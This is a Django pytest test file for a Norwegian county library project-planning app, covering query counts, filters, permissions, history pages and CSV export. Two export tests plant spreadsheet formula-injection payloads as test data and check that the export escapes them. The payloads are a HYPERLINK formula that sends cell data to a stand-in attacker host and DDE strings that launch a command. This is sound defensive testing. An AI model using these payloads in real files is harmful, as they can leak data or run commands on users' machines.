import csv
import io
import re
from datetime import date

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from planning import services as planning_services
from projects import services
from projects.models import Participant, Project
from tests.conftest import make_active
from tests.factories import ContactFactory, MunicipalityFactory, position

pytestmark = pytest.mark.django_db


def _queries(client, url) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url)
        assert response.status_code == 200
    return len(queries)


def _projects(county, staff, theme, n, start=0):
    return [
        services.create_project(
            county=county,
            by=staff,
            title=f"Prosjekt {i}",
            theme=theme,
            purpose="p",
            start_on=date(2026, 1, 1),
            end_on=date(2026, 12, 31),
        )
        for i in range(start, start + n)
    ]


def _export(client, **params):
    response = client.get(reverse("projects:project-export"), params)
    assert response.status_code == 200
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def test_project_list_query_count_is_flat(client, county, county_staff, theme, municipality):
    client.force_login(county_staff)
    for project in _projects(county, county_staff, theme, 5):
        services.invite_participants(project=project, municipalities=[municipality], by=county_staff)
    small = _queries(client, reverse("projects:project-list"))
    for project in _projects(county, county_staff, theme, 45, start=5):
        services.invite_participants(project=project, municipalities=[municipality], by=county_staff)
    assert _queries(client, reverse("projects:project-list")) == small


def test_project_page_query_count_is_flat(client, county, county_staff, project, expert):
    client.force_login(county_staff)
    for i in range(2):
        goal = services.save_goal(project=project, by=county_staff, text=f"Mål {i}")
        services.save_indicator(project=project, goal=goal, by=county_staff, name="Besøk", baseline=1, target=2)
    services.save_requirement(project=project, by=county_staff, text="Krav")
    municipalities = [MunicipalityFactory(county=county, number=f"55{i + 10}") for i in range(50)]
    planning_services.set_required_positions(
        project=project, positions=planning_services.default_positions(project.theme), by=county_staff
    )
    first = services.invite_participants(project=project, municipalities=municipalities[:5], by=county_staff)
    planning_services.save_budget(
        participant=first[0],
        by=county_staff,
        county_grant=100,
        required_local_share=40,
        local_cash=80,
        local_inkind_hours=0,
        hourly_rate=500,
    )
    small = _queries(client, project.get_absolute_url())
    rest = services.invite_participants(project=project, municipalities=municipalities[5:], by=county_staff)
    for participant in rest[:20]:
        services.change_participant_status(participant=participant, to="committed", by=county_staff)
        planning_services.save_budget(
            participant=participant,
            by=county_staff,
            county_grant=100,
            required_local_share=40,
            local_cash=80,
            local_inkind_hours=0,
            hourly_rate=500,
        )
        planning_services.release_grant(participant=participant, amount=50, by=county_staff)
        ContactFactory(municipality=participant.municipality, position=position(county, "mayor"))
    planning_services.set_capacity_needs(
        project=project, by=county_staff, county_hours_per_month=10, participant_hours_per_month=2
    )
    for i in range(3):
        goal = services.save_goal(project=project, by=county_staff, text=f"Flere mål {i}")
        indicator = services.save_indicator(
            project=project, goal=goal, by=county_staff, name="Utlån", baseline=1, target=2
        )
        services.record_measurement(indicator=indicator, by=county_staff, value=3, measured_on=date(2026, 2, 1))
    assert _queries(client, project.get_absolute_url()) == small


def test_csv_export_has_norwegian_format_and_escapes_formulas(client, county, county_staff, theme):
    client.force_login(county_staff)
    services.create_project(
        county=county,
        by=county_staff,
        title='=HYPERLINK("http://x")',
        theme=theme,
        purpose="p",
        start_on=date(2026, 1, 1),
        end_on=date(2026, 12, 31),
    )
    services.create_project(
        county=county,
        by=county_staff,
        title="Leselyst i Gáivuotna",
        theme=theme,
        purpose="p",
        start_on=date(2026, 1, 1),
        end_on=date(2026, 1, 4),
    )
    rows = _export(client, sort="title")
    # The same columns as the .xlsx (tests/planning/test_exports.py reads those): the first nine, then the money.
    assert rows[0][:9] == [
        "Tittel",
        "Status",
        "Tema",
        "Fylke",
        "Start",
        "Slutt",
        "Prosjektledere",
        "Deltakere",
        "Andel av perioden som har gått",
    ]
    titles = [row[0] for row in rows[1:]]
    assert '\'=HYPERLINK("http://x")' in titles and "Leselyst i Gáivuotna" in titles
    gaivuotna = next(row for row in rows if row[0] == "Leselyst i Gáivuotna")
    assert gaivuotna[4] == "01.01.2026" and gaivuotna[8] == "100,0 %"


def test_library_heads_export_contains_only_their_projects(
    client, county, county_staff, theme, municipality, library_head
):
    mine, other = _projects(county, county_staff, theme, 2)
    services.invite_participants(project=mine, municipalities=[municipality], by=county_staff)
    client.force_login(library_head)
    assert [row[0] for row in _export(client)[1:]] == [mine.title]


def test_project_list_filters(client, county, county_staff, theme, municipality):
    client.force_login(county_staff)
    first, second = _projects(county, county_staff, theme, 2)
    make_active(second)
    services.invite_participants(project=first, municipalities=[municipality], by=county_staff)

    def listed(**params):
        return [p.title for p in client.get(reverse("projects:project-list"), params).context["page_obj"]]

    assert listed(status="active") == [second.title]
    assert listed(municipality=municipality.pk) == [first.title]
    assert listed(q="Prosjekt 1") == [second.title]
    assert listed(leader=county_staff.pk, sort="title") == [first.title, second.title]


def test_the_project_filter_offers_the_readers_choices_and_keeps_the_chosen_one(
    client, county, county_staff, theme, municipality
):
    _projects(county, county_staff, theme, 1)
    client.force_login(county_staff)
    page = client.get(reverse("projects:project-list"), {"municipality": municipality.pk}).content.decode()
    select = page[page.index('<select name="municipality"') :].split("</select>", 1)[0]
    options = re.findall(r'<option value="([^"]*)"( selected)?>([^<]*)</option>', select)
    assert options[0] == ("", "", "Alle")
    assert (str(municipality.pk), " selected", str(municipality)) in options
    leaders = page[page.index('<select name="leader"') :].split("</select>", 1)[0]
    assert county_staff.get_full_name() in leaders


def test_create_project_form_shows_period_error_on_the_field(client, county_staff, theme):
    client.force_login(county_staff)
    response = client.post(
        reverse("projects:project-create"),
        {
            "title": "Nytt",
            "theme": theme.pk,
            "leaders": [county_staff.pk],
            "purpose": "p",
            "start_on": "2026-05-01",
            "end_on": "2026-04-01",
        },
    )
    assert response.status_code == 200
    assert response.context["form"].errors["end_on"] == ["Prosjektet må slutte etter at det starter."]
    assert not Project.objects.exists()


def test_withdrawal_without_reason_shows_the_error_and_changes_nothing(client, project, county_staff, municipality):
    (participant,) = services.invite_participants(project=project, municipalities=[municipality], by=county_staff)
    client.force_login(county_staff)
    response = client.post(
        reverse("projects:participant-status", kwargs={"pk": project.pk, "participant_pk": participant.pk}),
        {"to": "withdrawn", "reason": "", "on": "2026-03-01"},
    )
    assert response.status_code == 400
    assert response.context["form"].errors["reason"]
    participant.refresh_from_db()
    assert participant.status == Participant.Status.INVITED


def test_history_is_shown_to_staff_only(client, project, county_staff, municipality, library_head):
    services.invite_participants(project=project, municipalities=[municipality], by=county_staff)
    services.update_project(project=project, by=county_staff, title="Nytt navn")
    client.force_login(county_staff)
    assert "Historikk" in client.get(project.get_absolute_url()).content.decode()
    history = reverse("projects:project-history", kwargs={"pk": project.pk})
    assert "Bibliotekrommet → Nytt navn" in client.get(history).content.decode()
    partial = client.get(history, HTTP_HX_REQUEST="true").content.decode()
    assert "Bibliotekrommet → Nytt navn" in partial and "<html" not in partial
    client.force_login(library_head)
    assert "Historikk" not in client.get(project.get_absolute_url()).content.decode()
    assert client.get(history).status_code == 404


def test_municipality_page_lists_its_projects(client, project, county_staff, municipality):
    services.invite_participants(project=project, municipalities=[municipality], by=county_staff)
    client.force_login(county_staff)
    assert project.title in client.get(municipality.get_absolute_url()).content.decode()


def test_municipality_list_filters_on_taking_part(client, project, county_staff, municipality, other_municipality):
    services.invite_participants(project=project, municipalities=[municipality], by=county_staff)
    make_active(project)
    client.force_login(county_staff)
    url = reverse("municipalities:municipality-list")
    assert [m.number for m in client.get(url, {"takes_part": "yes"}).context["page_obj"]] == ["5501"]
    assert [m.number for m in client.get(url, {"takes_part": "no"}).context["page_obj"]] == ["5540"]


@pytest.mark.parametrize("section", ["oppfolging", "evaluering", "avtaler"])
def test_project_page_parts_are_readable_by_every_reader(
    client, project, county_staff, municipality, library_head, section
):
    services.invite_participants(project=project, municipalities=[municipality], by=county_staff)
    url = reverse("projects:project-section", kwargs={"pk": project.pk, "section": section})
    client.force_login(library_head)
    assert client.get(url).status_code == 200
    fragment = client.get(url, HTTP_HX_REQUEST="true").content.decode()
    assert "<html" not in fragment
    assert url in client.get(project.get_absolute_url()).content.decode()  # the page loads it


def test_plan_part_is_for_county_staff_and_shows_the_checks(client, project, county_staff, municipality, library_head):
    services.invite_participants(project=project, municipalities=[municipality], by=county_staff)
    planning_services.set_required_positions(
        project=project, positions=planning_services.default_positions(project.theme), by=county_staff
    )
    url = reverse("projects:project-section", kwargs={"pk": project.pk, "section": "plan"})
    client.force_login(county_staff)
    html = client.get(url, HTTP_HX_REQUEST="true").content.decode()
    assert "Har vi tenkt på alle?" in html and "4 stillinger som kreves, mangler." in html
    assert "Realitetsorientering" in html
    client.force_login(library_head)
    assert client.get(url).status_code == 404
    assert url not in client.get(project.get_absolute_url()).content.decode()


def test_unknown_project_part_is_404(client, project, county_staff):
    client.force_login(county_staff)
    assert (
        client.get(reverse("projects:project-section", kwargs={"pk": project.pk, "section": "ukjent"})).status_code
        == 404
    )


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_export_escapes_a_formula_in_every_text_column(client, county, county_staff, theme, municipality):
    """Whoever can name a county, a theme, a person or a municipality can start a cell with a formula:
    every cell of the export that starts like one is prefixed with an apostrophe, whatever column."""
    from accounts.models import User
    from municipalities.models import County, Municipality, Theme
    from tests.factories import UserFactory

    County.objects.filter(pk=county.pk).update(name='=HYPERLINK("http://angriper.example/?"&A1;"Klikk")')
    Theme.objects.filter(pk=theme.pk).update(name="+cmd|' /C calc'!A0")
    User.objects.filter(pk=county_staff.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    second = UserFactory(name="-2+3")
    Municipality.objects.filter(pk=municipality.pk).update(name="\t=1+1")
    project = services.create_project(
        county=county,
        by=county_staff,
        title="\r=1+1",
        theme=theme,
        purpose="p",
        start_on=date(2026, 1, 1),
        end_on=date(2026, 12, 31),
    )
    project.leaders.add(second)
    services.invite_participants(project=project, municipalities=[municipality], by=county_staff)
    services.create_project(
        county=county,
        by=county_staff,
        title='-Minus først; og «sitat» "i" tittelen',
        theme=theme,
        purpose="p",
        start_on=date(2026, 1, 1),
        end_on=date(2026, 1, 4),
    )
    client.force_login(county_staff)
    rows = _export(client, sort="title")
    assert len(rows) == 3
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_STARTS), (row, value)
    by_title = {row[0]: row for row in rows[1:]}
    hostile = by_title["'\r=1+1"]
    assert hostile[2] == "'+cmd|' /C calc'!A0"
    assert hostile[3] == '\'=HYPERLINK("http://angriper.example/?"&A1;"Klikk")'
    assert hostile[6] in ("'@SUM(1+1)*cmd|' /C calc'!A0, -2+3", "'-2+3, @SUM(1+1)*cmd|' /C calc'!A0")
    assert hostile[7] == "1" and hostile[4] == "01.01.2026"
    quoted = by_title['\'-Minus først; og «sitat» "i" tittelen']  # semicolon and quotes survive the round trip
    assert quoted[8] == "100,0 %"


def test_history_shows_field_labels_and_formatted_values_not_raw_ones(client, project, county_staff):
    from datetime import date
    from decimal import Decimal

    from projects.models import Project

    services.update_project(project=project, by=county_staff, end_on=date(2027, 1, 15))
    for hours in ("600.00", "1500.50"):
        project = Project.objects.get(pk=project.pk)
        project.county_hours_per_month = Decimal(hours)
        project.save()
    client.force_login(county_staff)
    html = client.get(reverse("projects:project-history", kwargs={"pk": project.pk})).content.decode()
    assert "Slutt: 30. juni 2027 → 15. januar 2027" in html
    assert "2027-06-30" not in html and "January" not in html
    assert "Timer per måned som trengs fra fylket: 600 → 1\xa0500,50" in html
    assert "1500" not in html and "600,0" not in html and ",0 →" not in html
